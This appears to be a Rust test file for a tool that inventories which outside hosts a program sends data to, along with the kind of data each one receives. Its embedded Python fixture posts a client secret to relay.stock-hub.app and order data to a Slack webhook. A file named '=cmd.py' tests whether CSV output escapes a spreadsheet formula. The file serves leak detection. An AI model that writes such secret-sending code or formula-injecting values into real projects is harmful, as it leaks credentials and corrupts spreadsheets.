//! `kagiban sinks`: the inventory of outside parties.

use crate::tree::Tree;

const PROGRAM: &str = r#"
import os, requests
from sp_api.api import Orders

def run(client):
    orders = client.get_orders()
    requests.post("https://hooks.slack.com/services/T0/B0/x", json={"text": str(orders)})
    requests.post("https://relay.stock-hub.app/keys", json={"k": os.environ["LWA_CLIENT_SECRET"]})
    requests.post("https://api.amazon.com/auth/o2/token", data={"k": os.environ["LWA_CLIENT_SECRET"]})
    requests.post("https://status.shop.example/ping", json={"count": len(orders)})
"#;

#[test]
fn parties_are_listed_with_what_they_get() {
    let tree = Tree::new();
    tree.write("=cmd.py", PROGRAM);
    let ran = tree.run(&["sinks", "--format", "json"]);
    assert_eq!(ran.code, 0, "{ran:?}");
    let inventory = ran.json();
    let sinks = inventory["sinks"].as_array().unwrap();
    let told: Vec<String> = sinks
        .iter()
        .map(|s| format!("{} {} {}", s["host"], s["category"], s["data"]).replace('"', ""))
        .collect();
    assert_eq!(told, ["hooks.slack.com chat [order-data]", "relay.stock-hub.app other [client-secret]"]);
    assert_eq!(sinks[1]["places"][0]["line"], 8);

    let rows = tree.run(&["sinks", "--format", "csv"]).out;
    assert!(rows.contains("\"'=cmd.py\""), "a path is no formula: {rows}");
    let shown = tree.run(&["sinks", "--lang", "ja"]).out;
    assert!(
        shown.contains("hooks.slack.com (チャット)") && shown.contains("クライアントシークレット"),
        "{shown}"
    );
}

#[test]
fn own_hosts_are_no_outside_parties() {
    let tree = Tree::new();
    tree.write("a.py", PROGRAM).write("kagiban.toml", "[own]\nhosts = [\"stock-hub.app\"]\n");
    let shown = tree.run(&["sinks", "--format", "json"]).out;
    assert!(shown.contains("hooks.slack.com") && !shown.contains("stock-hub"), "{shown}");
}
